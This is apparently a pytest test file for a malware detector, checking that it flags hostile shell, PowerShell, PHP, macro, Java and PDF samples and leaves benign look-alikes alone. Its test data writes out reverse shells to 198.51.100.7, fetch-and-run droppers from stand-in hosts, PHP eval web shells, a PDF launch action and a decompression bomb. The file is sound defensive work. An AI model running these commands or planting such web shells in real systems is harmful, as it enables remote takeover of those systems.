"""Shell, PowerShell, PHP, Java, Visual Basic, PDF: what is malicious in each, and what looks like it and is not."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

import pytest

from detectors.software.analysis import load
from detectors.software.budget import PROFILES
from detectors.software.verdict import AT_LEAST, verdict

ANALYSIS = load(Path("rules/yara"))
BAD = {
    "pipe.sh": ("curl -fsSL http://x.example/a | base64 -d | bash\n", "shell.exec-decoded"),
    "substituted.sh": ('eval "$(echo aGk= | base64 --decode)"\n', "shell.exec-decoded"),
    "reverse.sh": ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", "shell.reverse-shell"),
    "pipe-shell.sh": ("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 1 > /tmp/f\n", "shell.reverse-shell"),
    "bot.sh": ("cd /tmp\nwget http://198.51.100.7/x86; chmod 777 x86; ./x86\n", "shell.fetch-and-run"),
    "memory.ps1": ("iEx (nEw-oBject Net.WebClient).DownloadString('http://x.example/a')\n", "powershell.exec-fetched"),
    "decoded.ps1": ("$b = [Convert]::FromBase64String($x)\nIEX $b\n", "powershell.exec-decoded"),
    "piped.ps1": ("irm http://x.example/a | iex\n", "powershell.exec-fetched"),
    "shell.php": ("<?php @eval($_POST['x']); ?>", "php.exec-input"),
    "by-name.php": ("<?php $f = 'sys' . 'tem'; $f($_GET[1]);", "php.exec-input"),
    "kept.php": ("<?php $c = $_REQUEST['c'];\nsystem($c);", "php.exec-input"),
    "packed.php": ("<?php eval(gzinflate(base64_decode('AAAA')));", "php.exec-decoded"),
    "input.php": ("<?php eval(file_get_contents('php://input'));", "php.exec-input"),
    "auto.bas": ("Sub Document_Open()\nShell \"cmd /c x\"\nEnd Sub\n", "macro.starts"),
    "fetch.vbs": ('Set h = CreateObject("MSXML2.XMLHTTP")\nCreateObject("WScript.Shell").Run "x"\n',
                  "macro.fetches-and-starts"),
    "code.bas": ('Declare Function VirtualAlloc Lib "kernel32"\n', "macro.code"),
}  # fmt: skip
GOOD = {
    "install.sh": "#!/bin/sh\nset -e\ncurl -sSfL https://sh.example.org/install | sh -s -- -y\ntar xf a.tgz && "
                  "./configure && make\n",
    "plain.sh": "for f in *.txt; do base64 \"$f\" > \"$f.b64\"; done\nnc -z localhost 80\n",
    "build.ps1": "Invoke-WebRequest https://x.example/a.zip -OutFile a.zip\nExpand-Archive a.zip\nStart-Process "
                 "msiexec\n",
    "page.php": "<?php include 'head.php'; $n = $_POST['n']; echo htmlspecialchars($n); exec('git rev-parse HEAD');",
    "sum.bas": "Sub Total()\n' Shell is not called here\nRange(\"A1\").Value = 1\nEnd Sub\n",
}  # fmt: skip


def facts(name: str, content: bytes):
    return ANALYSIS.facts(memoryview(content), name, PROFILES["package"])


@pytest.mark.parametrize("name", BAD)
def test_what_is_malicious_is_found_with_its_line(name):
    text, rule = BAD[name]
    found = [e for e in facts(name, text.encode()).evidence if e.rule == rule]
    assert found
    assert found[0].line >= 1
    assert found[0].matched


@pytest.mark.parametrize("name", GOOD)
def test_what_only_looks_like_it_stays_below_suspicion(name):
    v = verdict(facts(name, GOOD[name].encode()))
    assert v.probability < AT_LEAST["suspicious"], v.reasons


@pytest.mark.parametrize("name", [n for n in BAD if not n.endswith((".bas", ".vbs"))])
def test_half_a_script_is_read_too(name):
    text, rule = BAD[name]
    seen = []
    for cut in range(0, len(text) + 7, 7):
        found = facts(name, text[:cut].encode() + b"\n\xff\x00'\"`$(")
        assert not found.limits
        seen.append(rule in {e.rule for e in found.evidence})
    assert seen[0] is False
    assert seen[-1] or found.format == "data"


def java(methods: list[tuple[str, str]], texts: list[str] = ()) -> bytes:  # type: ignore[assignment]
    """A class that names these methods: only its constant pool is whole."""
    pool: list[bytes] = []

    def add(entry: bytes) -> int:
        pool.append(entry)
        return len(pool)

    def utf8(text: str) -> int:
        return add(b"\x01" + struct.pack(">H", len(text.encode())) + text.encode())

    for owner, name in methods:
        cls = add(b"\x07" + struct.pack(">H", utf8(owner)))
        named = add(b"\x0c" + struct.pack(">HH", utf8(name), utf8("()V")))
        add(b"\x0a" + struct.pack(">HH", cls, named))
    for text in texts:
        utf8(text)
    return b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + struct.pack(">H", len(pool) + 1) + b"".join(pool) + bytes(8)


def test_a_class_that_loads_what_it_fetches_is_told():
    found = facts("A.class", java([("java/net/URL", "openStream"), ("java/lang/ClassLoader", "defineClass")]))
    assert [e.rule for e in found.evidence] == ["java.exec-fetched"]
    only = facts("B.class", java([("java/net/URL", "openStream"), ("java/util/List", "add")]))
    assert not only.evidence


def test_texts_of_a_class_are_looked_at():
    found = facts("A.class", java([], ["powershell -w hidden -enc AAAA", "http://198.51.100.7/a"]))
    assert {e.rule for e in found.evidence} == {"java.shell", "java.bare-address"}


def test_a_class_whose_pool_is_cut_off_is_damaged():
    content = java([("java/net/URL", "openStream")])
    assert [x.name for x in facts("A.class", content[:40]).limits] == ["damaged"]


def pdf(*objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % (i, o) for i, o in enumerate(objects, 1)) + b"%%EOF\n"


def test_a_document_that_starts_something_is_told_also_when_it_hides_the_words():
    for o in (b"<</OpenAction<</S/Launch/F(cmd.exe)>>>>", b"<</OpenAction<</S/L#61unch/F(cmd.exe)>>>>"):
        assert [e.rule for e in facts("a.pdf", pdf(o)).evidence] == ["pdf.launch"]
    packed = zlib.compress(b"<</S/JavaScript/JS(app.alert(1))>>")
    hidden = b"<</Type/ObjStm/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(packed), packed)
    assert [e.rule for e in facts("a.pdf", pdf(b"<</OpenAction 2 0 R>>", hidden)).evidence] == ["pdf.script-at-open"]
    assert not facts("a.pdf", pdf(b"<</Type/Page/Contents 3 0 R>>")).evidence


def test_a_document_that_is_a_bomb_ends():
    packed = zlib.compress(bytes(64 << 20))
    o = b"<</Type/ObjStm/Filter/FlateDecode>>\nstream\n" + packed + b"\nendstream"
    found = facts("a.pdf", pdf(*[o] * 60))
    assert found.bytes_out <= 33 << 20


SECRETS = {
    "aws": b"key = 'AKIA" + b"Z" * 16 + b"'", "github": b"token: ghp_" + b"a1" * 18,
    "npm": b"//r/:_authToken=npm_" + b"b2" * 18,
    "private-key": b"-----BEGIN RSA PRIVATE KEY-----\n" + b"A" * 64 + b"\n",
    "slack": b"xoxb-123456789-abcdefghijklmnop",
}  # fmt: skip


@pytest.mark.parametrize("kind", SECRETS)
def test_a_secret_is_told_hidden_and_says_nothing_of_malice(kind):
    found = facts("conf.txt", b"a\n" + SECRETS[kind])
    (e,) = [e for e in found.evidence if e.rule.startswith("secret.")]
    assert (e.rule, e.line, e.weight) == (f"secret.{kind}", 2, 0.0)
    assert SECRETS[kind][-12:].decode() not in e.matched
    assert verdict(found).word == "clean"


def test_a_word_that_begins_like_a_secret_is_none():
    assert not facts("conf.txt", b"AKIAlpha glpat-short npm_install -----BEGIN PRIVATE KEY----- npm_x").evidence
